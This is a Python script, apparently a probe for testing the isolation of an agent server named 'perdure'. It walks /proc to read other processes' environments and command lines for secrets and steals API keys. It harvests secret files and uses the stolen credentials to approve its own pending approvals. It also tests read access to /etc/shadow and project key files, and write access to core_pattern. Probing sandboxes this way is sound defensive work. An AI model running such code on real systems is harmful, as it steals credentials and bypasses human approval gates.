"""A program that attacks the server which started it; it prints what it got, as JSON.

It looks for secrets of the server in files and in the environments of processes, answers the approvals of its
own run with whatever it found, and reads the files of the project. It uses the standard library alone, and
works as a command, as a script and inside an isolated agent.
"""

from __future__ import annotations

import glob
import json
import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

MARKS = ("key-of-the-server", "secret-of-webhooks", "password-of-the-database")
PRIVATE_FILES = (
    "perdure.toml",
    ".env",
    "perdure.db",
    "perdure.db-wal",
    "state/agent-sessions",
    "deep/.env",
    "keys/api.key",
)
LONGEST_WALK = 20


def ancestors() -> Iterator[int]:
    """The processes above this one, as far as /proc shows them."""
    pid = os.getppid()
    for _ in range(LONGEST_WALK):
        if pid <= 0:
            return
        yield pid
        try:
            fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
        except OSError:
            return
        pid = int(fields[1])


def seen_processes() -> list[int]:
    """The ancestors and their children: the supervisor, its workers, and their other commands."""
    above = {pid for pid in ancestors() if pid > 1}
    found = set(above)
    for entry in glob.glob("/proc/[0-9]*/stat"):
        try:
            fields = Path(entry).read_text().rpartition(")")[2].split()
        except OSError:
            continue
        if int(fields[1]) in above:
            found.add(int(entry.split("/")[2]))
    return sorted(found - {os.getpid()})


def read(path: str) -> bytes | None:
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return None


def marks_in(data: bytes | None) -> list[str]:
    return [mark for mark in MARKS if mark.encode() in (data or b"")]


def keys_in(environment: bytes | None) -> list[str]:
    """The API keys in an environment."""
    pairs = [line.partition(b"=") for line in (environment or b"").split(b"\0")]
    return [value.decode() for name, _, value in pairs if name == b"PERDURE_API_KEY"]


def local_secrets(directories: list[str]) -> list[str]:
    """The secrets of servers in files, with which a caller is an administrator."""
    files = {path for place in directories for path in glob.glob(f"{place}/perdure*/*.secret")}
    contents = [(read(path) or b"").decode(errors="replace").split() for path in sorted(files)]
    return [words[1] for words in contents if len(words) == 2]


def ask(url: str, secret: str | None, body: Any = None) -> Any:
    """Ask the server; gives its answer, or the status of its refusal, or why it cannot be reached."""
    headers = {"Content-Type": "application/json"}
    if secret is not None:
        headers["Authorization"] = f"Bearer {secret}"
    data = None if body is None else json.dumps(body).encode()
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(urllib.request.Request(url, data, headers), timeout=10) as answer:
            return json.load(answer)
    except urllib.error.HTTPError as refusal:
        with refusal:
            return refusal.code
    except OSError as error:
        return str(error)


def approve(server: str, secret: str | None) -> Any:
    """Approve what this run waits for; gives the actor that the server recorded, or why it did not."""
    listed = ask(f"{server}/api/v1/approvals?status=pending", secret)
    if not isinstance(listed, dict):
        return listed
    for approval in listed["items"]:
        answer = ask(f"{server}/api/v1/approvals/{approval['approval_id']}/approve", secret, {})
        if not isinstance(answer, dict):
            return answer
        return {"approved": approval["approval_id"]}
    return "nothing to approve"


def reaches(server: str) -> bool:
    """Whether the server answers at all."""
    host, _, port = server.removeprefix("http://").partition(":")
    try:
        socket.create_connection((host, int(port)), timeout=10).close()
    except OSError:
        return False
    return True


def can_write(path: str) -> bool:
    try:
        with open(path, "a"):
            return True
    except OSError:
        return False


def attack(server: str, project: str, runtime: str, home: str) -> dict[str, Any]:
    """Try everything; gives what worked."""
    processes = seen_processes()
    environments = {pid: marks_in(read(f"/proc/{pid}/environ")) for pid in processes}
    lines = {pid: marks_in(read(f"/proc/{pid}/cmdline")) for pid in processes}
    secrets = local_secrets([runtime])
    stolen = list(dict.fromkeys(key for pid in processes for key in keys_in(read(f"/proc/{pid}/environ"))))
    return {
        "uid": os.getuid(),
        "home": os.environ.get("HOME"),
        "processes": len(processes),
        "environ": sorted({mark for marks in environments.values() for mark in marks}),
        "cmdline": sorted({mark for marks in lines.values() for mark in marks}),
        "own_environment": marks_in("\0".join(os.environ.values()).encode()),
        "local_secrets": len(secrets),
        "approved": [approve(server, secret) for secret in (*secrets, *stolen, None)],
        "reaches_server": reaches(server),
        "reads": [name for name in PRIVATE_FILES if os.path.exists(os.path.join(project, name))],
        "reads_contents": [name for name in PRIVATE_FILES if read(os.path.join(project, name)) is not None],
        "reads_home": os.path.exists(os.path.join(home, "private.txt")),
        "reads_project": os.path.exists(os.path.join(project, "attacker.py")),
        "writes_project": can_write(os.path.join(project, "planted")),
        "writes_here": can_write("written-by-the-attacker"),
        "writes_core_pattern": can_write("/proc/sys/kernel/core_pattern"),
        "reads_shadow": read("/etc/shadow") is not None,
    }


async def isolated_attack(ctx: Any, input: Any) -> Any:
    """The same as an agent in a process of its own."""
    if ctx.phase is not None and ctx.phase.workspace is not None:
        os.chdir(ctx.phase.workspace)
    return attack(*input["attack"])


if __name__ == "__main__":
    print(json.dumps(attack(*sys.argv[1:])))
